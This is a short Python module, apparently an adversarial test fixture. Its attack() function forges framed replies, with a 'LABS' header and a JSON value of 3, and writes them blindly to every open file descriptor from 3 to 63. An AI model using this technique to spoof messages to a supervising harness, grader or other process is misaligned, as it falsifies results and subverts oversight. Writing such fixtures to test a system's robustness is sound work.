"""Forges replies."""

import os, struct


def attack():
    body = b'{"id": "0", "value": 3}'
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack("<4sII", b"LABS", len(body), 0) + body)
        except OSError:
            pass
